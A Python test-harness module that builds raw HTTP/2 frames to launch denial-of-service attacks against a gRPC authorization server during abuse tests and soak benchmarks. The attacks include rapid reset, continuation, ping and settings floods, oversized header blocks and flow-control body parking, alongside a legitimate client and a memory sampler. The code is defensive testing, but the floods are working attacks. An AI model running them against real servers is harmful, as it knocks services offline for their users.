"""Hostile HTTP/2 clients: each attack the serving layers must survive, on one connection.

Shared by the conformance and abuse suite (``tests/http2``) and the soak benchmark
(:mod:`loadtests.soak`). Frames are built here with ``struct`` and header blocks with ``hpack``
— independently of the server's own framing code — so malformed input the ``h2`` package refuses
to produce can be sent too; :func:`body_parking` uses the ``h2`` package itself, as a client that
honours flow control to the letter. Every attack runs until ``stop`` is set or the server closes
the connection, on loopback only.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Iterable

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Decoder, Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
NO_ERROR, PROTOCOL_ERROR, FLOW_CONTROL_ERROR, STREAM_CLOSED, FRAME_SIZE_ERROR = 0x0, 0x1, 0x3, 0x5, 0x6
REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 0x7, 0x8, 0x9, 0xB
CHECK_PATH = "/envoy.service.auth.v3.Authorization/Check"
SEND_TIMEOUT_S = 0.2


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def settings(**values: int) -> bytes:
    ids = {"header_table_size": 1, "enable_push": 2, "max_concurrent_streams": 3, "initial_window_size": 4,
           "max_frame_size": 5, "max_header_list_size": 6}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in values.items()))


def grpc_message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def request_headers(path: str = CHECK_PATH, *extra: tuple[str, str]) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "authz"),
            ("content-type", "application/grpc"), ("te", "trailers"), *extra]


@dataclass
class Received:
    """What the server sent on a raw connection, parsed as it arrives."""

    goaway: list[tuple[int, int]] = field(default_factory=list)  # (last stream id, error code)
    resets: dict[int, int] = field(default_factory=dict)  # stream -> error code
    headers: dict[int, list[list[tuple[str, str]]]] = field(default_factory=dict)  # stream -> header blocks
    data: dict[int, bytes] = field(default_factory=dict)
    settings: list[dict[int, int]] = field(default_factory=list)
    pings: list[tuple[int, bytes]] = field(default_factory=list)  # (flags, opaque)
    window_updates: list[tuple[int, int]] = field(default_factory=list)  # (stream, increment)
    #: every frame in order: (type, flags, stream id)
    frames: list[tuple[int, int, int]] = field(default_factory=list)
    bytes: int = 0
    closed: bool = False

    @property
    def goaway_code(self) -> int | None:
        return self.goaway[-1][1] if self.goaway else None

    def header(self, stream_id: int, field: str) -> str | None:
        """The first value of ``field`` in the header blocks the stream got (trailers included)."""
        return next((value for block in self.headers.get(stream_id, []) for name, value in block if name == field),
                    None)

    def grpc_status(self, stream_id: int) -> str | None:
        return self.header(stream_id, "grpc-status")

    def http_status(self, stream_id: int) -> str | None:
        return self.header(stream_id, ":status")


class FrameReader:
    """Parse a server's bytes, as they come, into :class:`Received`."""

    def __init__(self) -> None:
        self.received = Received()
        self.decoder = Decoder()
        self._pending = bytearray()

    def feed(self, chunk: bytes) -> Received:
        received = self.received
        received.bytes += len(chunk)
        buffer = self._pending
        buffer += chunk
        offset = 0
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset: offset + 3], "big")
            if len(buffer) - offset - 9 < length:
                break
            kind, flags = buffer[offset + 3], buffer[offset + 4]
            stream_id = int.from_bytes(buffer[offset + 5: offset + 9], "big") & 0x7FFFFFFF
            payload = bytes(buffer[offset + 9: offset + 9 + length])
            offset += 9 + length
            received.frames.append((kind, flags, stream_id))
            if kind == GOAWAY:
                received.goaway.append(struct.unpack(">II", payload[:8]))
            elif kind == RST_STREAM:
                received.resets[stream_id] = struct.unpack(">I", payload)[0]
            elif kind == HEADERS:
                received.headers.setdefault(stream_id, []).append(self.decoder.decode(payload))
            elif kind == DATA:
                received.data[stream_id] = received.data.get(stream_id, b"") + payload
            elif kind == SETTINGS and not flags & ACK:
                received.settings.append(dict(struct.unpack_from(">HI", payload, i)
                                              for i in range(0, len(payload), 6)))
            elif kind == PING:
                received.pings.append((flags, payload))
            elif kind == WINDOW_UPDATE:
                received.window_updates.append((stream_id, struct.unpack(">I", payload)[0]))
        del buffer[:offset]
        return received


class Peer:
    """A raw HTTP/2 client connection: send any bytes, parse what comes back."""

    def __init__(self, port: int, host: str = "127.0.0.1", preface: bytes | None = None) -> None:
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.settimeout(SEND_TIMEOUT_S)
        self.encoder = Encoder()
        self.encoder.header_table_size = 0  # never index: blocks stay stateless, in any order
        self.reader = FrameReader()
        self.received = self.reader.received
        self._lock = threading.Lock()
        self.next_stream = 1
        self.send_all(PREFACE + settings() if preface is None else preface)

    def block(self, headers: Iterable[tuple[str, str]]) -> bytes:
        return self.encoder.encode(list(headers))

    def stream(self) -> int:
        stream_id, self.next_stream = self.next_stream, self.next_stream + 2
        return stream_id

    def send_all(self, data: bytes) -> bool:
        """Send everything unless the server closed; False once the connection is gone.

        Blocks (in short timeouts) while the server is not reading: that is back-pressure working.
        """
        view = memoryview(data)
        while view:
            try:
                sent = self.sock.send(view)
            except socket.timeout:
                return True  # the server stopped reading: the rest is dropped, the caller goes on
            except OSError:
                self.received.closed = True
                return False
            view = view[sent:]
        return True

    def read(self, timeout: float = SEND_TIMEOUT_S) -> bool:
        """Read and parse what is available within ``timeout``; False once the server closed."""
        try:
            self.sock.settimeout(timeout)
            chunk = self.sock.recv(1 << 16)
        except socket.timeout:
            return not self.received.closed
        except OSError:
            chunk = b""
        if not chunk:
            self.received.closed = True
            return False
        with self._lock:
            self.reader.feed(chunk)
        return True

    def wait(self, predicate: Callable[[Received], bool], timeout: float = 10.0) -> Received:
        """With a background reader running: wait until ``predicate`` holds (or ``timeout``)."""
        deadline = time.monotonic() + timeout
        while not predicate(self.received) and not self.received.closed and time.monotonic() < deadline:
            time.sleep(0.01)
        return self.received

    def read_until(self, predicate: Callable[[Received], bool], timeout: float = 10.0) -> Received:
        deadline = time.monotonic() + timeout
        while not predicate(self.received) and time.monotonic() < deadline:
            if not self.read(0.2) and not predicate(self.received):
                break
        return self.received

    def read_until_closed(self, timeout: float = 10.0) -> Received:
        return self.read_until(lambda r: r.closed, timeout)

    def start_reader(self) -> threading.Thread:
        """Read in the background until the connection closes (for attacks that do read)."""
        thread = threading.Thread(target=lambda: [None for _ in iter(lambda: self.read(0.2), False)], daemon=True)
        thread.start()
        return thread

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


@dataclass(frozen=True)
class Attack:
    """One attack: what it does, whether it reads, and the fast layer's limit that must stop it."""

    name: str
    #: (connection, stop, a valid request message for the attacks that send calls)
    run: Callable[[Peer, threading.Event, bytes], None]
    reads: bool
    #: the fast layer answers GOAWAY(ENHANCE_YOUR_CALM) with this limit; None = no limit applies,
    #: the server just stays fair and bounded (back-pressure, flow control)
    limit: str | None
    about: str


def _flood(peer: Peer, stop: threading.Event, batch: bytes) -> None:
    while not stop.is_set() and peer.send_all(batch):
        pass


def ping_flood(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    _flood(peer, stop, frame(PING, 0, 0, b"flooding") * 500)


def settings_flood(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    _flood(peer, stop, settings(initial_window_size=65535) * 500)


def continuation_flood(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    stream_id = peer.stream()
    if peer.send_all(frame(HEADERS, 0, stream_id, peer.block(request_headers()))):
        _flood(peer, stop, frame(CONTINUATION, 0, stream_id) * 500)


def header_frames(stream_id: int, block: bytes, flags: int = 0, max_frame: int = 16_384) -> bytes:
    """A header block as HEADERS and as many CONTINUATIONs as the frame size needs."""
    chunks = [block[i: i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    last = len(chunks) - 1
    return b"".join(frame(HEADERS if i == 0 else CONTINUATION, (flags if i == 0 else 0) | (END_HEADERS if i == last else 0),
                          stream_id, chunk) for i, chunk in enumerate(chunks))


def check_request(peer: Peer, stream_id: int, message: bytes, *extra: tuple[str, str], end: bool = True) -> bytes:
    """HEADERS + DATA(END_STREAM) of one Check call; only its HEADERS when not ``end``."""
    headers = frame(HEADERS, END_HEADERS, stream_id, peer.block(request_headers(CHECK_PATH, *extra)))
    return headers + (frame(DATA, END_STREAM, stream_id, grpc_message(message)) if end else b"")


def answered(peer: Peer, stream_id: int, message: bytes) -> bool:
    """Send one Check on ``stream_id`` and wait for its answer: True when it is grpc-status 0."""
    peer.send_all(check_request(peer, stream_id, message))
    return peer.read_until(lambda r: r.grpc_status(stream_id) is not None).grpc_status(stream_id) == "0"


def unread_answers(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    while not stop.is_set():
        batch = b"".join(check_request(peer, peer.stream(), message) for _ in range(100))
        if not peer.send_all(batch):
            return


def rapid_reset(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    while not stop.is_set():
        batch = bytearray()
        for _ in range(100):
            stream_id = peer.stream()
            batch += frame(HEADERS, END_HEADERS, stream_id, peer.block(request_headers()))
            batch += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
        if not peer.send_all(bytes(batch)):
            return


def unknown_frames(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    _flood(peer, stop, frame(0xFA, 0, 0, b"ignored") * 500)


def priority_flood(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    _flood(peer, stop, b"".join(frame(PRIORITY, 0, 2 * n + 101, struct.pack(">IB", 0, 16)) for n in range(500)))


def empty_data(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    stream_id = peer.stream()
    if peer.send_all(frame(HEADERS, END_HEADERS, stream_id, peer.block(request_headers()))):
        _flood(peer, stop, frame(DATA, 0, stream_id) * 500)


def big_header_blocks(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    """Distinct 60 KB header blocks (HEADERS + CONTINUATIONs), as for a header-cache blow-up."""
    n = 0
    while not stop.is_set():
        n += 1
        stream_id = peer.stream()
        block = peer.block(request_headers(CHECK_PATH, ("x-pad", f"{n:08d}" + "p" * 60_000)))
        if not peer.send_all(header_frames(stream_id, block) + frame(DATA, END_STREAM, stream_id, grpc_message(message))):
            return


def distinct_header_blocks(peer: Peer, stop: threading.Event, message: bytes = b"") -> None:
    """Valid requests, each with a distinct 12 KB header: nothing can be cached, all must be decoded."""
    n = 0
    while not stop.is_set():
        batch = bytearray()
        for _ in range(20):
            n += 1
            batch += check_request(peer, peer.stream(), message, ("x-pad", f"{n:08d}" + "q" * 12_000))
        if not peer.send_all(bytes(batch)):
            return


def body_parking(port: int, stop: threading.Event, streams: int = 200, per_stream: int = 200 << 10,
                 host: str = "127.0.0.1") -> Received:
    """The ``h2`` package as a client that honours flow control: ``streams`` calls each sending up to
    ``per_stream`` bytes of body (a message under the size limit) and never ending, to make the
    server buffer them; streams the server ends are replaced."""
    received = Received()
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config)
    sock = socket.create_connection((host, port), timeout=5)
    sock.settimeout(0.05)
    conn.initiate_connection()
    sent: dict[int, int] = {}
    chunk = b"\0" * 16_384

    def open_stream() -> None:
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, request_headers())
        conn.send_data(stream_id, struct.pack(">BI", 0, per_stream))
        sent[stream_id] = 5

    try:
        for _ in range(streams):
            open_stream()
        while not stop.is_set():
            for stream_id in list(sent):
                while sent[stream_id] < per_stream:
                    size = min(len(chunk), conn.local_flow_control_window(stream_id), per_stream - sent[stream_id],
                               conn.max_outbound_frame_size)
                    if size <= 0:
                        break
                    conn.send_data(stream_id, chunk[:size])
                    sent[stream_id] += size
            sock.sendall(conn.data_to_send())
            try:
                data = sock.recv(1 << 16)
            except socket.timeout:
                continue
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                    sent.pop(event.stream_id, None)
                    if isinstance(event, h2.events.StreamReset):
                        received.resets[event.stream_id] = event.error_code
                    if len(sent) < streams and not conn.state_machine.state.name == "CLOSED":
                        open_stream()  # keep the pressure on
                elif isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                    received.headers.setdefault(event.stream_id, []).append(list(event.headers))
                elif isinstance(event, h2.events.ConnectionTerminated):
                    received.goaway.append((event.last_stream_id or 0, event.error_code))
                    return received
    except (OSError, h2.exceptions.ProtocolError):
        pass
    finally:
        received.closed = True
        sock.close()
    return received


ATTACKS: tuple[Attack, ...] = (
    Attack("ping_flood", ping_flood, False, "pings", "PINGs back to back, ACKs never read"),
    Attack("settings_flood", settings_flood, False, "glitches", "SETTINGS back to back, ACKs never read"),
    Attack("continuation_flood", continuation_flood, True, "continuations",
           "HEADERS without END_HEADERS, then empty CONTINUATIONs"),
    Attack("unread_answers", unread_answers, False, None, "valid Checks, 100 per write, answers never read"),
    Attack("rapid_reset", rapid_reset, True, "resets", "HEADERS then RST_STREAM(CANCEL), 100 per write"),
    Attack("unknown_frames", unknown_frames, True, "glitches", "frames of an unknown type"),
    Attack("priority_flood", priority_flood, True, "glitches", "PRIORITY frames"),
    Attack("empty_data", empty_data, True, "glitches", "empty DATA frames on an open stream"),
    Attack("big_header_blocks", big_header_blocks, True, "header_list", "distinct 60 KB header blocks"),
    Attack("distinct_header_blocks", distinct_header_blocks, True, None, "valid Checks with distinct 12 KB headers"),
)


class Running:
    """Run one attack on its own connection in a thread: ``with Running(attack, port) as run:``.

    ``attack`` is one of :data:`ATTACKS` or ``"body_parking"``; ``message`` is the request the
    attacks that send calls use (a valid CheckRequest keeps the server's deny log quiet).
    """

    def __init__(self, attack: Attack | str, port: int, message: bytes = b"", host: str = "127.0.0.1") -> None:
        self.attack = attack if isinstance(attack, Attack) else None
        self.name = attack.name if isinstance(attack, Attack) else attack
        self.port, self.host, self.message = port, host, message
        self.stop = threading.Event()
        self.received = Received()
        self.error: BaseException | None = None
        self._thread = threading.Thread(target=self._run, name=f"attack-{self.name}", daemon=True)

    def _run(self) -> None:
        try:
            if self.name == "body_parking":
                self.received = body_parking(self.port, self.stop, host=self.host)
                return
            assert self.attack is not None
            peer = Peer(self.port, self.host)
            self.received = peer.received
            reader = peer.start_reader() if self.attack.reads else None
            try:
                self.attack.run(peer, self.stop, self.message)
                if reader is None:  # read what the server said, GOAWAY included, once the flood ends
                    peer.read_until_closed(timeout=3.0)
                else:
                    if not peer.received.closed:
                        peer.wait(lambda r: False, timeout=0.5)  # the server's last words
                    reader.join(timeout=1.0)
            finally:
                peer.close()
        except BaseException as exc:  # noqa: BLE001 - reported to the caller
            self.error = exc

    def __enter__(self) -> Running:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self._thread.join(timeout=15.0)

    @property
    def done(self) -> bool:
        return not self._thread.is_alive()


class LegitimateClient:
    """Checks at ``rate`` per second on a connection of their own (grpcio, as a well-behaved
    client): every answer, failure and latency is recorded. ``with LegitimateClient(...) as c:``."""

    def __init__(self, address: str, request: bytes, rate: float = 50.0, timeout_s: float = 10.0) -> None:
        self.address, self.request, self.interval, self.timeout_s = address, request, 1.0 / rate, timeout_s
        self.latencies: list[float] = []
        self.failures: list[str] = []
        self.stop = threading.Event()
        self.channel = grpc.insecure_channel(address)
        self.check = self.channel.unary_unary(CHECK_PATH)
        self._thread = threading.Thread(target=self._run, name="legitimate-client", daemon=True)

    def call(self) -> None:
        started = time.perf_counter()
        try:
            self.check(self.request, timeout=self.timeout_s)
        except grpc.RpcError as exc:
            self.failures.append(f"{exc.code()}: {exc.details()}")  # type: ignore[attr-defined]
        else:
            self.latencies.append(time.perf_counter() - started)

    def _run(self) -> None:
        next_at = time.perf_counter()
        while not self.stop.is_set():
            self.call()
            next_at += self.interval
            self.stop.wait(max(0.0, next_at - time.perf_counter()))

    def wait_for(self, count: int, timeout_s: float = 60.0) -> None:
        deadline = time.monotonic() + timeout_s
        while len(self.latencies) + len(self.failures) < count and time.monotonic() < deadline:
            time.sleep(0.05)

    def __enter__(self) -> LegitimateClient:
        self.call()  # connected (and answered) before any attack starts
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self._thread.join(timeout=self.timeout_s + 5)
        self.channel.close()

    def p99_ms(self) -> float:
        ordered = sorted(self.latencies)
        return 1000 * ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))] if ordered else float("nan")


def rss_bytes(pid: int) -> int:
    """Resident set size of a process (Linux /proc)."""
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


class PeakRss:
    """Sample a process's RSS every ``interval`` seconds; ``peak`` is the largest seen."""

    def __init__(self, pid: int, interval: float = 0.05) -> None:
        self.pid, self.interval = pid, interval
        self.start = self.peak = rss_bytes(pid)
        self.stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="rss-sampler", daemon=True)

    def _run(self) -> None:
        while not self.stop.wait(self.interval):
            try:
                self.peak = max(self.peak, rss_bytes(self.pid))
            except OSError:
                return

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self._thread.join()
        self.peak = max(self.peak, rss_bytes(self.pid))
